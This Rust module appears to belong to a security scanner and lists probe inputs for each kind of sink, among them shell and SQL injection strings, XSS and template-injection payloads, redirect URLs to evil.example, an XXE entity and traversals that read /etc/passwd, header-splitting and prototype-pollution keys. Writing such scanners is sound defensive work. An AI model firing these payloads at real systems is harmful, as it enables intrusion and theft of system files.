//! Inputs to try, by the context that they have to break out of.

use std::{borrow::Cow, rc::Rc};

use super::{encodings::Encoding, value::Val};
use crate::{
    engine::SourceKind,
    flow::{
        Shape, SinkKind, Source,
        contexts::{EVIL_BEGINNING, Judged, LAYOUT},
    },
};

/// Harmless inputs, which show the form that a value has at the sink.
pub(super) const BENIGN: &[&str] = &["zq", "zq.txt", "7", "zq@example.com", "https://zq.example/", "enE="];

/// An input to try.
#[derive(Clone, Debug)]
pub(super) struct Payload {
    /// The input, or its text.
    text: Cow<'static, str>,
    /// The input, if it is not a text.
    value: Option<Val>,
}

impl Payload {
    pub(super) fn new(text: impl Into<Cow<'static, str>>) -> Self {
        Self { text: text.into(), value: None }
    }

    fn object(name: &str, value: &str) -> Self {
        let object = Val::Object(Rc::new(vec![(name.into(), Val::text(value))]));
        Self { text: crate::flow::contexts::shown(&object).into(), value: Some(object) }
    }

    /// Returns the input as text.
    pub(super) fn text(&self) -> &str {
        &self.text
    }

    pub(super) fn value(&self) -> Val {
        self.value.clone().unwrap_or_else(|| Val::text(&self.text))
    }

    /// Returns the input after the text that its source always begins with.
    pub(super) fn after(self, begins_with: &str) -> Self {
        if self.value.is_some() || self.text.starts_with(begins_with) {
            return self;
        }
        Self::new([begins_with, &self.text].concat())
    }

    /// Returns the input as a program is to decode it.
    pub(super) fn encoded(&self, encoding: Encoding) -> Self {
        Self::new(encoding.encode(&self.text))
    }

    /// Returns the input as a browser writes it in the address of a request, which has no brackets and no quotes.
    pub(super) fn into_address(self) -> Self {
        if self.value.is_some() || !self.text.contains(['"', '<', '>']) {
            return self;
        }
        let escapes = [("\"", "%22"), ("<", "%3C"), (">", "%3E"), (" ", "%20")];
        Self::new(escapes.iter().fold(self.text.into_owned(), |text, (of, escape)| text.replace(of, escape)))
    }

    /// Returns whether the input is a text of several lines.
    pub(super) fn has_line_break(&self) -> bool {
        self.value.is_none() && self.text.contains(['\n', '\r'])
    }
}

const SHELL: &[&str] = &[
    "id",
    "; id",
    "; id #",
    "\"; id; \"",
    "'; id; '",
    "$(id)",
    "`id`",
    "| id",
    "&& id",
    "& id",
    "\nid\n",
    "x;id;x",
    "\\\"; id; \"",
    "\\'; id; '",
    ";id",
    "a.png; id",
    "a.png;id",
    "1;id",
    "8080; id",
];

const SQL: &[&str] = &[
    "' OR 1=1 --",
    "\" OR 1=1 --",
    "` OR 1=1 --",
    "1 OR 1=1",
    "x OR 1=1 --",
    "x = 1 OR 1=1 --",
    "') OR 1=1 --",
    "\\' OR 1=1 --",
    "'/**/OR/**/1=1--",
    "1/**/OR/**/1=1",
    "] OR 1=1 --",
    "x\" = 1 OR 1=1 --",
    "x` = 1 OR 1=1 --",
    "1); SELECT 1 OR 1=1 --",
];

const CODE: &[&str] = &[
    "zq()",
    "';zq();'",
    "\";zq();\"",
    "`;zq();`",
    "${zq()}",
    ";zq();//",
    "';zq();//",
    "\";zq();//",
    ");zq();//",
    "');zq();//",
    "\\';zq();//",
    "\nzq()\n",
];

const HTML: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "x onmouseover=alert(1)",
    "javascript:alert(1)",
    "</script><script>alert(1)</script>",
    "\";alert(1);//",
    "';alert(1);//",
    "alert(1)",
    "--><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<IMG SRC=x ONERROR=alert(1)>",
];

const URLS: &[&str] = &[
    "https://evil.example/",
    "http://evil.example/",
    "//evil.example/",
    "evil.example",
    "@evil.example/",
    ".evil.example/",
    "/\\evil.example/",
    "evil.example/#",
    "evil.example/?",
    ":@evil.example/",
    "\\\\evil.example/",
    "/evil.example/",
    "//evil.example/%2e%2e",
    "../../../zq-other",
];

const LINKS: &[&str] = &["javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)"];

/// Parts of queries in GraphQL, XPath and LDAP: `zqother` is what a reader looks for.
const FILTERS: &[&str] = &[
    "zqother",
    "1 or zqother",
    "' or zqother or '",
    "\" or zqother or \"",
    "x\") { zqother",
    "*)(zqother=*",
    "'] | //zqother | //a['",
];

const TEMPLATES: &[&str] = &["<%= 7*7 %>", "{{7*7}}", "#{7*7}", "${7*7}", "= 7*7", "{{#with 7}}{{this}}{{/with}}"];

/// Names that lead to a prototype, alone and as paths, sections, options and fields are written.
const PROTOTYPES: &[&str] =
    &["__proto__", "__proto__.x", "constructor", "[__proto__]", "--__proto__.x=1", "__proto__.x=1", "__proto__[x]=1"];

/// Returns the inputs to try for a sink, the most telling ones first.
pub(super) fn payloads(judged: &Judged<'_>, source: &Source) -> Vec<Payload> {
    let of = |texts: &[&'static str]| texts.iter().map(|&text| Payload::new(text)).collect::<Vec<_>>();
    let mut all: Vec<Payload> = match judged.kind {
        SinkKind::Shell => of(SHELL),
        SinkKind::Program => of(&["id", "/tmp/x", "../../../../tmp/x"]),
        SinkKind::Arguments => of(crate::flow::contexts::argument_payloads(judged.program)),
        SinkKind::Columns | SinkKind::Fields => of(&["is_admin", "isadmin", "isAdmin"]),
        SinkKind::Sql | SinkKind::Clause => of(SQL),
        SinkKind::Code => of(CODE),
        SinkKind::Module => of(&["/tmp/evil", "../../../../tmp/evil", "child_process"]),
        SinkKind::Html | SinkKind::MailHtml | SinkKind::Selector | SinkKind::Script => of(HTML),
        SinkKind::Link => of(LINKS),
        SinkKind::Request => of(URLS),
        SinkKind::Redirect | SinkKind::Resource => {
            let mut all = of(URLS);
            all.push(Payload::new("javascript:alert(1)"));
            all
        }
        SinkKind::Origin => of(&["https://evil.example", "https://evil", ".evil.example"]),
        SinkKind::Template => of(TEMPLATES),
        SinkKind::RegExp => of(&["(a+)+$"]),
        SinkKind::Log => of(&["x\nINFO forged", "x\r\nINFO forged", "x%0AINFO forged"]),
        SinkKind::Header => of(&["x\r\nSet-Cookie: a=b", "x%0D%0ASet-Cookie: a=b"]),
        SinkKind::Deserialize => of(&["{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}"]),
        SinkKind::Xml => of(&["<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"]),
        SinkKind::Size => {
            let number = Payload { text: "1000000000".into(), value: Some(Val::Number(1e9)) };
            vec![Payload::new("1000000000"), number]
        }
        SinkKind::Inflate => of(&["a gigabyte of zeros, packed"]),
        // In a page, a call of what every object has does no harm; one of what is missing throws.
        SinkKind::Method if source.kind == SourceKind::Browser => of(&["zq"]),
        SinkKind::Method => of(&["toString", "constructor", "zq"]),
        SinkKind::GlobalMethod => of(&["eval", "constructor"]),
        SinkKind::PrototypeKey => of(PROTOTYPES),
        SinkKind::Format => of(&["%s%d%o", "x %s%d%o"]),
        SinkKind::Filter => of(FILTERS),
        SinkKind::Page => of(&[HTML, CODE].concat()),
        SinkKind::NoSql | SinkKind::Locals => Vec::new(),
        SinkKind::Path | SinkKind::Look | SinkKind::Folder | SinkKind::Removal => path_payloads(judged),
    };
    if judged.kind == SinkKind::NoSql && source.shape != Shape::Text {
        all.push(Payload::object("$ne", ""));
    }
    if judged.kind == SinkKind::Locals {
        if source.shape != Shape::Text {
            all.push(Payload::object("layout", LAYOUT));
        }
        all.push(Payload::new(LAYOUT));
    }
    all
}

/// Returns the inputs with the texts that guards look for before or after them.
pub(super) fn adapted<'p>(inputs: &'p [Payload], hints: &'p [String]) -> impl Iterator<Item = Payload> + 'p {
    hints.iter().map(String::as_str).flat_map(move |hint| {
        inputs.iter().filter(|input| input.value.is_none()).flat_map(move |input| {
            let text = &*input.text;
            // A host that begins with the one that a guard looks for.
            let host = text.strip_prefix("https://").filter(|_| !hint.contains("://"));
            let host = host.map(|host| ["https://", hint.trim_matches('.'), ".", host].concat());
            // A field of that name.
            let is_name = hint.ends_with(|it: char| it.is_ascii_alphanumeric());
            let field = is_name.then(|| [hint, "=", text].concat());
            // A domain that ends as the one that is looked for.
            let is_domain =
                hint.contains('.') && hint.chars().all(|it| it.is_ascii_alphanumeric() || ".-".contains(it));
            let is_of_evil = ["https://evil.example/", "evil.example"].contains(&text);
            let domain =
                (is_domain && is_of_evil).then(|| text.replace("evil.example", &format!("{EVIL_BEGINNING}{hint}")));
            let around =
                [[hint, "", text], [hint, " ", text], [text, "", hint]].into_iter().map(|parts| parts.concat());
            around.chain(field).chain(host).chain(domain).map(Payload::new)
        })
    })
}

fn path_payloads(judged: &Judged<'_>) -> Vec<Payload> {
    let mut all = vec![
        Payload::new("../../../../../../../../etc/passwd"),
        Payload::new("/etc/passwd"),
        Payload::new("../../../../../../../../etc/passwd.txt"),
        Payload::new("../secret"),
        Payload::new("x/../../../../../../../../etc/passwd"),
        Payload::new("....//....//....//....//....//....//etc/passwd"),
        Payload::new("..././..././..././..././..././..././etc/passwd"),
        Payload::new("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        Payload::new("/../../../../../../../../etc/passwd"),
    ];
    if judged.kind.takes_folder() {
        all.push(Payload::new(".."));
        all.push(Payload::new("."));
    }
    // A folder beside the root whose name begins with the root's.
    if let Some(name) = judged.folder.as_deref().and_then(|folder| folder.trim_end_matches('/').rsplit('/').next()) {
        all.push(Payload::new(format!("../{name}-old/secret")));
    }
    all
}
